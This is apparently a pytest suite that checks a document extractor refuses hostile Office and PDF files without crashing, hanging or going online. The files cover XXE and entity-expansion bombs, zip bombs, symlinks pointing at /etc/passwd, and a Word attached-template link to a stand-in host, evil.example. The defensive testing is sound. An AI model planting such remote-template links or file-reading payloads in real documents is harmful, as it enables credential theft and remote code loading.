"""Hostile and broken files: each gives the right problem, never an exception, a hang, a network
call or the content of an entity's target."""

from __future__ import annotations

import io
import os
import socket
import sys
import time
import zipfile
from pathlib import Path

import docx
import hostile
import pytest

from itdocs.extract import DEFAULT_LIMITS, PROBLEM_FAMILY, Limits, extract

GUARD_SECONDS = 5.0  # generous: the limits aim at well under a second per file


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> dict[str, tuple[hostile.Case, Path]]:
    return {
        case.name: (case, path) for case, path in hostile.build(tmp_path_factory.mktemp("hostile"))
    }


@pytest.fixture
def no_network(monkeypatch):
    """Fail the test if anything tries to open a connection."""
    attempts: list[object] = []

    def refuse(self, address, *args, **kwargs):
        attempts.append(address)
        raise OSError("network disabled in this test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    return attempts


@pytest.mark.parametrize("name", [c.name for c in hostile.CASES])
def test_hostile_file(corpus, name, no_network):
    case, path = corpus[name]
    started = time.perf_counter()
    doc = extract(path, strict=True)
    elapsed = time.perf_counter() - started
    assert elapsed < GUARD_SECONDS
    if case.expect:
        assert set(case.expect) & set(doc.problem_codes), doc.problems
    else:
        assert doc.problems == ()
    assert all(p.code in PROBLEM_FAMILY and p.message for p in doc.problems)
    assert hostile.SECRET_MARK not in repr(doc)
    assert no_network == []


def test_entity_refusals_are_security_findings(corpus):
    for name in (
        "billion-laughs.docx",
        "xxe-passwd.docx",
        "xxe-http.docx",
        "xxe-shared-strings.xlsx",
    ):
        [problem] = extract(corpus[name][1]).problems
        assert (problem.code, problem.family) == ("xml-entity", "security")


def test_bombs_are_refused_without_inflating(corpus):
    """The 1 GiB document is refused from its declared size; the lying header stops one byte past
    what it declared. Both in milliseconds, not the seconds inflating would take."""
    for name in (
        "whitespace-1gib.docx",
        "whitespace-1gib-lying-header.docx",
        "empty-paragraphs-100mib.docx",
    ):
        started = time.perf_counter()
        extract(corpus[name][1])
        assert time.perf_counter() - started < 0.5


def test_forged_pdf_signature_is_only_claimed(corpus):
    doc = extract(corpus["forged-signature.pdf"][1])
    [field] = doc.pdf_signatures
    assert (field.status, field.signer) == ("claimed", "张三")
    [row] = doc.signature_rows
    assert row.basis == "pdf-claimed"


def test_encryption_is_reported(corpus):
    assert extract(corpus["password.xlsx"][1]).encrypted
    assert extract(corpus["password.pdf"][1]).encrypted
    opened = extract(corpus["owner-password-only.pdf"][1])
    assert opened.encrypted and opened.ok and "保密合同" in opened.text


def test_mismatched_file_is_still_read_as_what_it_is(corpus):
    doc = extract(corpus["docx-is-pdf.docx"][1])
    assert doc.format == "pdf" and doc.problem_codes == ("format-mismatch",)
    assert "这其实是PDF" in doc.text


# The file system ------------------------------------------------------------------------------------


def test_missing_file(tmp_path):
    assert extract(tmp_path / "nope.docx").problem_codes == ("not-found",)


def test_directory(tmp_path):
    (tmp_path / "folder.docx").mkdir()
    assert extract(tmp_path / "folder.docx").problem_codes == ("not-a-file",)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_fifo_does_not_block(tmp_path):
    os.mkfifo(tmp_path / "pipe.docx")
    assert extract(tmp_path / "pipe.docx").problem_codes == ("not-a-file",)


def test_symlink_leaving_the_folder_is_not_followed(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "passwd.docx"
    secret.write_bytes(hostile.real_docx())
    inside = tmp_path / "archive"
    inside.mkdir()
    (inside / "link.docx").symlink_to(secret)
    (inside / "etc.docx").symlink_to("/etc/passwd")
    for name in ("link.docx", "etc.docx"):
        doc = extract(inside / name)
        assert doc.problem_codes == ("symlink-outside",) and doc.text_blocks == ()
    # With the archive root given explicitly, a link into a sibling folder of the root stays refused,
    # and one within the root is read.
    assert extract(inside / "link.docx", root=tmp_path).problem_codes == ("symlink",)


def test_linked_folder_leaving_the_root_is_not_followed(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "a.docx").write_bytes(hostile.real_docx())
    archive = tmp_path / "archive"
    archive.mkdir()
    (archive / "sub").symlink_to(outside, target_is_directory=True)
    assert extract(archive / "sub" / "a.docx", root=archive).problem_codes == ("symlink-outside",)
    assert extract(archive / "sub" / "a.docx", root=tmp_path).ok


def test_symlink_loop_and_dangling_link(tmp_path):
    (tmp_path / "a.docx").symlink_to(tmp_path / "b.docx")
    (tmp_path / "b.docx").symlink_to(tmp_path / "a.docx")
    (tmp_path / "gone.docx").symlink_to(tmp_path / "never.docx")
    assert extract(tmp_path / "a.docx").problem_codes == ("symlink-loop",)
    assert extract(tmp_path / "gone.docx").problem_codes == ("not-found",)


@pytest.mark.skipif(sys.platform == "win32" or os.geteuid() == 0, reason="root reads anything")
def test_unreadable_file(tmp_path):
    path = tmp_path / "locked.docx"
    path.write_bytes(hostile.real_docx())
    path.chmod(0)
    try:
        assert extract(path).problem_codes == ("unreadable",)
    finally:
        path.chmod(0o644)


@pytest.mark.skipif(sys.platform != "linux", reason="needs a file system that stores raw bytes")
def test_name_that_is_not_utf8(tmp_path):
    raw = os.fsencode(tmp_path) + b"/\xff\xfe\xe6\x9c\x88\xe6\x8a\xa5.docx"
    with open(raw, "wb") as handle:
        handle.write(hostile.real_docx())
    doc = extract(raw)
    assert doc.problem_codes == ("bad-filename",)
    assert doc.field("申请日期") is not None  # still read


def test_name_with_control_characters(tmp_path):
    path = tmp_path / "周报\x07.docx"
    path.write_bytes(hostile.real_docx())
    assert extract(path).problem_codes == ("bad-filename",)


# The limits are one policy object ---------------------------------------------------------------------


def test_limits_are_a_policy_object(tmp_path):
    path = tmp_path / "a.docx"
    path.write_bytes(hostile.real_docx())
    assert extract(path, limits=Limits(max_xml_elements=10)).problem_codes == ("xml-too-complex",)
    assert extract(path, limits=Limits(max_seconds=0.0)).problem_codes == ("timeout",)
    assert extract(path, limits=Limits(max_file_bytes=100)).problem_codes == ("too-large",)
    assert extract(path, limits=Limits(max_members=3)).problem_codes == ("too-many-members",)
    assert (
        DEFAULT_LIMITS.max_total_uncompressed == 100 * 1024 * 1024
        and DEFAULT_LIMITS.max_ratio == 200
    )


def test_cell_limit_keeps_what_was_read(tmp_path):
    import openpyxl

    wb = openpyxl.Workbook()
    for r in range(1, 101):
        wb.active.append([f"第{r}行", r])
    wb.save(tmp_path / "big.xlsx")
    doc = extract(tmp_path / "big.xlsx", limits=Limits(max_cells=50))
    assert doc.problem_codes == ("content-truncated",)
    assert len(doc.text_blocks) == 50


def test_mutated_docx_never_raises(tmp_path):
    """Byte mutations of a valid docx: findings, never a traceback (a quick deterministic sweep;
    the hypothesis fuzzing of the reliability suite goes further)."""
    import random

    data = bytearray(hostile.real_docx())
    rng = random.Random(5)
    path = tmp_path / "m.docx"
    for _ in range(200):
        mutated = bytearray(data)
        for _ in range(rng.randint(1, 8)):
            mutated[rng.randrange(len(mutated))] = rng.randrange(256)
        if rng.random() < 0.2:
            mutated = mutated[: rng.randrange(len(mutated))]
        path.write_bytes(bytes(mutated))
        doc = extract(path, strict=True)
        assert all(p.code in PROBLEM_FAMILY for p in doc.problems)


def test_hard_timer_stops_a_pdf_that_loops(tmp_path, monkeypatch):
    """pypdf is pure Python: a crafted page could keep it busy; the timer stops it near the budget."""
    import pypdf
    from docbuild import build_pdf

    def slow(self, *args, **kwargs):
        time.sleep(10)

    monkeypatch.setattr(pypdf.PageObject, "extract_text", slow)
    path = tmp_path / "slow.pdf"
    path.write_bytes(build_pdf([["合同"]]))
    started = time.perf_counter()
    doc = extract(path, limits=Limits(max_seconds=0.2))
    assert doc.problem_codes == ("timeout",)
    assert time.perf_counter() - started < 2


def test_permission_denied_without_being_root(tmp_path, monkeypatch):
    """The same path as test_unreadable_file, reachable when the tests run as root (as in CI
    containers): the open itself is refused."""
    path = tmp_path / "locked.docx"
    path.write_bytes(hostile.real_docx())
    real_open = os.open

    def deny(target, flags, *args, **kwargs):
        if os.fspath(target) == os.fspath(path):
            raise PermissionError(13, "Permission denied")
        return real_open(target, flags, *args, **kwargs)

    monkeypatch.setattr(os, "open", deny)
    assert extract(path).problem_codes == ("unreadable",)


def test_understanding_a_huge_document_stays_in_budget(tmp_path):
    """Reading is fast; understanding 20,000 form lines is not. The budget holds, the text stays,
    the half-made facts go (half a signature table would read as missing signatures)."""
    body = "".join(
        hostile.para(f"申请日期：2026年9月{i % 28 + 1}日 负责人：张{i}") for i in range(20_000)
    )
    path = tmp_path / "huge.docx"
    path.write_bytes(hostile.docx_with(hostile.document_xml(body)))
    started = time.perf_counter()
    doc = extract(path, limits=Limits(max_seconds=0.3))
    assert time.perf_counter() - started < 1.5
    assert doc.problem_codes == ("timeout",)
    assert len(doc.text_blocks) == 20_000 and doc.fields == () and doc.signature_rows == ()


def _with_settings_rels(tmp_path, rels: str, name: str):
    """A Word document whose settings part has ``rels`` (as Word writes an attached template)."""
    source = io.BytesIO()
    d = docx.Document()
    d.add_paragraph("项目名称：ERP运维外包项目")
    d.save(source)
    out = tmp_path / name
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info, zin.read(info.filename))
        zout.writestr("word/_rels/settings.xml.rels", rels)
    return out


_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)


def test_a_template_on_a_network_share_is_a_security_finding_and_the_file_is_still_read(tmp_path):
    template = (
        '<Relationship Id="rId1" TargetMode="External" Target="file://///evil.example/share/t.dotm" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    )
    doc = extract(_with_settings_rels(tmp_path, _RELS.format(template), "a.docx"), strict=True)
    assert doc.problem_codes == ("external-link",)
    assert doc.problems[0].family == "security" and "evil.example" in doc.problems[0].message
    assert doc.field("项目名称").value == "ERP运维外包项目"


def test_an_external_hyperlink_is_not_reported(tmp_path):
    link = (
        '<Relationship Id="rId9" TargetMode="External" Target="https://example.com/" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
    )
    doc = extract(_with_settings_rels(tmp_path, _RELS.format(link), "b.docx"), strict=True)
    assert doc.ok
